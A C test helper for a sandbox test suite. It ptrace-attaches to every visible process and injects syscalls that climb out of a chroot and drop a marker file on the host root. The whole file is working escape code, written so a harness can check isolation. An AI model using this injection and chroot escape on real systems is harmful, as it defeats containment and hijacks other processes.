/* A hostile maintainer script's helper (built static by the tests): attach
 * with ptrace to every process it sees but itself and its ancestors, and
 * make each one it attaches to run, through injected syscalls, the chroot
 * climb out of the instance, then create MARKER (argv[1]) on whatever root
 * it reached.  With a process of the harness that keeps CAP_SYS_CHROOT or
 * is not chrooted (the old namespace holder), MARKER lands on the host.
 *
 * Prints one line per process tried; exits 0 whatever happens, so that the
 * verdict is the harness's.  x86-64 only (the suite's architecture). */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <unistd.h>

static pid_t parent_of(pid_t pid)
{
    char path[64], line[256];
    snprintf(path, sizeof path, "/proc/%d/status", pid);
    FILE *f = fopen(path, "r");
    pid_t ppid = 0;
    if (!f)
        return 0;
    while (fgets(line, sizeof line, f))
        if (sscanf(line, "PPid: %d", &ppid) == 1)
            break;
    fclose(f);
    return ppid;
}

static int is_ancestor(pid_t pid)
{
    for (pid_t p = getpid(); p > 0; p = parent_of(p))
        if (p == pid)
            return 1;
    return 0;
}

/* Run syscall nr(a, b, c) in the stopped tracee; its result. */
static long inject(pid_t pid, const struct user_regs_struct *saved, unsigned long insn,
                   long nr, long a, long b, long c)
{
    struct user_regs_struct regs = *saved;
    int status;
    regs.rax = nr;
    regs.orig_rax = -1;
    regs.rdi = a;
    regs.rsi = b;
    regs.rdx = c;
    regs.rip = insn;
    if (ptrace(PTRACE_SETREGS, pid, 0, &regs) < 0 || ptrace(PTRACE_SINGLESTEP, pid, 0, 0) < 0)
        return -1000;
    if (waitpid(pid, &status, __WALL) < 0 || !WIFSTOPPED(status))
        return -1001;
    if (ptrace(PTRACE_GETREGS, pid, 0, &regs) < 0)
        return -1002;
    return (long)regs.rax;
}

/* Put the string s in the tracee's memory at addr (word by word). */
static void poke_string(pid_t pid, unsigned long addr, const char *s)
{
    size_t n = strlen(s) + 1;
    for (size_t i = 0; i < n; i += sizeof(long)) {
        long word = 0;
        memcpy(&word, s + i, n - i < sizeof(long) ? n - i : sizeof(long));
        ptrace(PTRACE_POKEDATA, pid, addr + i, word);
    }
}

static void escape_through(pid_t pid, const char *marker)
{
    struct user_regs_struct saved;
    int status;
    if (waitpid(pid, &status, __WALL) < 0 || ptrace(PTRACE_GETREGS, pid, 0, &saved) < 0) {
        printf("pid %d: attached, but cannot read its registers\n", pid);
        return;
    }
    /* A process stopped in a syscall has the syscall instruction just before rip. */
    unsigned long insn = saved.rip - 2;
    long code = ptrace(PTRACE_PEEKTEXT, pid, insn, 0);
    if ((code & 0xffff) != 0x050f) {
        printf("pid %d: attached, not stopped after a syscall instruction\n", pid);
        ptrace(PTRACE_DETACH, pid, 0, 0);
        return;
    }
    unsigned long scratch = (saved.rsp - 8192) & ~0xfUL;
    unsigned long dir = scratch, dotdot = scratch + 64, dot = scratch + 128, path = scratch + 192;
    poke_string(pid, dir, "/tmp");
    poke_string(pid, dotdot, "..");
    poke_string(pid, dot, ".");
    poke_string(pid, path, marker);
    long r1 = inject(pid, &saved, insn, SYS_chroot, dir, 0, 0);
    for (int i = 0; i < 64; i++)
        inject(pid, &saved, insn, SYS_chdir, dotdot, 0, 0);
    long r2 = inject(pid, &saved, insn, SYS_chroot, dot, 0, 0);
    long fd = inject(pid, &saved, insn, SYS_open, path, O_WRONLY | O_CREAT, 0644);
    if (fd >= 0)
        inject(pid, &saved, insn, SYS_close, fd, 0, 0);
    printf("pid %d: attached; chroot %ld, climb and chroot %ld, open %s: %ld\n", pid, r1, r2, marker, fd);
    ptrace(PTRACE_SETREGS, pid, 0, &saved);
    ptrace(PTRACE_DETACH, pid, 0, 0);
}

int main(int argc, char **argv)
{
    if (argc != 2) {
        fprintf(stderr, "usage: %s MARKER\n", argv[0]);
        return 2;
    }
    setvbuf(stdout, NULL, _IOLBF, 0);
    DIR *proc = opendir("/proc");
    struct dirent *entry;
    int attached = 0, tried = 0;
    while (proc && (entry = readdir(proc))) {
        pid_t pid = atoi(entry->d_name);
        if (pid <= 0 || is_ancestor(pid))
            continue;
        tried++;
        if (ptrace(PTRACE_ATTACH, pid, 0, 0) < 0) {
            printf("pid %d: ptrace attach refused: %s\n", pid, strerror(errno));
            continue;
        }
        attached++;
        escape_through(pid, argv[1]);
    }
    if (proc)
        closedir(proc);
    printf("ptrace: %d processes tried, %d attached\n", tried, attached);
    return 0;
}
